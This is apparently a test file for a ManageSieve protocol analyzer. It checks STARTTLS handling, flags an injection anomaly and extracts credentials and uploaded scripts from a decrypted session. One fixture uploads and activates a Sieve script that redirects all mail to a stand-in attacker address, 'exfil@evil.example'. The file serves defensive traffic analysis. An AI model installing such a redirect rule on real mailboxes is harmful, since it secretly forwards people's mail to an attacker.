import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SieveAnalyzer } from './sieve-analyzer.js';
import type { SieveSessionFacts } from './sieve-facts.js';
import { playTls } from '../../../test/helpers/tls-passthrough-context.js';
import type { DialogueStep } from '../../../test/helpers/chunkings.js';

// RFC 5804 §2.2: OK to STARTTLS, TLS, then the server re-sends its capabilities followed by OK.

const CLIENT_HELLO = Buffer.from('160301000a0100000603030102030405', 'hex');
const SERVER_HELLO = Buffer.from('160303000702000003030a0b', 'hex');
const SERVER_MORE = Buffer.from('OK "fake"\r\n', 'latin1');

const PRE: DialogueStep[] = [
  ['server', '"IMPLEMENTATION" "Test Sieve"\r\n"SASL" ""\r\n"SIEVE" "fileinto"\r\n"STARTTLS"\r\nOK "ready"\r\n'],
  ['client', 'STARTTLS\r\n'],
];

function facts(a: SieveAnalyzer): SieveSessionFacts {
  return (a.summary().facts as { sieve: SieveSessionFacts }).sieve;
}

test('STARTTLS: encryptedData gets exactly the bytes after the OK on each side (same chunk included)', () => {
  const { ctx, a } = playTls(
    (c) => new SieveAnalyzer(c),
    [
      ...PRE,
      ['server', Buffer.concat([Buffer.from('OK "Begin TLS negotiation now."\r\n'), SERVER_HELLO])],
      ['client', CLIENT_HELLO],
      ['gap', 'client', 3],
      ['server', SERVER_MORE],
    ],
    false,
  );
  assert.deepEqual(ctx.wireBytes('server'), Buffer.concat([SERVER_HELLO, SERVER_MORE]));
  assert.deepEqual(ctx.wireBytes('client'), CLIENT_HELLO);
  assert.deepEqual(ctx.wireGaps, [{ side: 'client', length: 3 }]);
  assert.deepEqual(facts(a).encrypted_bytes, { client: CLIENT_HELLO.length + 3, server: SERVER_HELLO.length + SERVER_MORE.length });
  const kinds = ctx.transcripts.map((t) => t.entry.kind);
  assert.deepEqual(kinds.slice(kinds.indexOf('tls') + 1), ['gap']);
  // Server bytes in the OK's segment, before any ClientHello, cannot be the server's TLS answer.
  assert.deepEqual(ctx.anomalyCodes(), ['sieve_starttls_injection']);
});

test('STARTTLS + decrypted dialogue: capabilities re-sent (RFC 5804 §2.2), AUTHENTICATE PLAIN, PUTSCRIPT, SETACTIVE', () => {
  const script = 'require "fileinto";\r\nredirect "exfil@evil.example";\r\n';
  const auth = Buffer.from('\0dave\0sieve-pw').toString('base64');
  const { ctx, a } = playTls(
    (c) => new SieveAnalyzer(c),
    [
      ...PRE,
      ['server', 'OK "Begin TLS negotiation now."\r\n'],
      ['client', CLIENT_HELLO],
      ['server', Buffer.concat([SERVER_HELLO, Buffer.from('"IMPLEMENTATION" "Test Sieve"\r\n"SASL" "PLAIN LOGIN"\r\n"SIEVE" "fileinto vacation"\r\nOK "TLS ok"\r\n')])],
      ['client', `AUTHENTICATE "PLAIN" "${auth}"\r\n`],
      ['server', 'OK "Logged in."\r\n'],
      ['client', `PUTSCRIPT "evil" {${script.length}+}\r\n${script}\r\n`],
      ['server', 'OK\r\n'],
      ['client', 'SETACTIVE "evil"\r\n'],
      ['server', 'OK\r\n'],
      ['client', 'LOGOUT\r\n'],
      ['server', 'OK "bye"\r\n'],
    ],
    true,
    { client: CLIENT_HELLO.length, server: SERVER_HELLO.length },
  );
  const f = facts(a);
  assert.deepEqual(f.sasl_mechanisms, ['PLAIN', 'LOGIN'], 'post-TLS capabilities replace the cleartext ones');
  assert.deepEqual(f.sieve_extensions, ['fileinto', 'vacation']);
  assert.equal(f.greeting, 'ready', 'the cleartext greeting is kept');
  assert.deepEqual(
    ctx.credentials.map((c) => [c.entry.mechanism, c.entry.username, c.entry.secret, c.entry.outcome]),
    [['PLAIN', 'dave', 'sieve-pw', 'success']],
  );
  assert.equal(ctx.artifacts.length, 1);
  assert.equal(ctx.artifacts[0].bytes.toString('latin1'), script);
  assert.equal(f.active_script, 'evil');
  assert.deepEqual(ctx.entries('command').map((e) => e.command), ['STARTTLS', 'AUTHENTICATE', 'PUTSCRIPT', 'SETACTIVE', 'LOGOUT']);
  assert.equal(a.summary().transport, 'starttls');
  assert.deepEqual(ctx.anomalyCodes(), []);
});
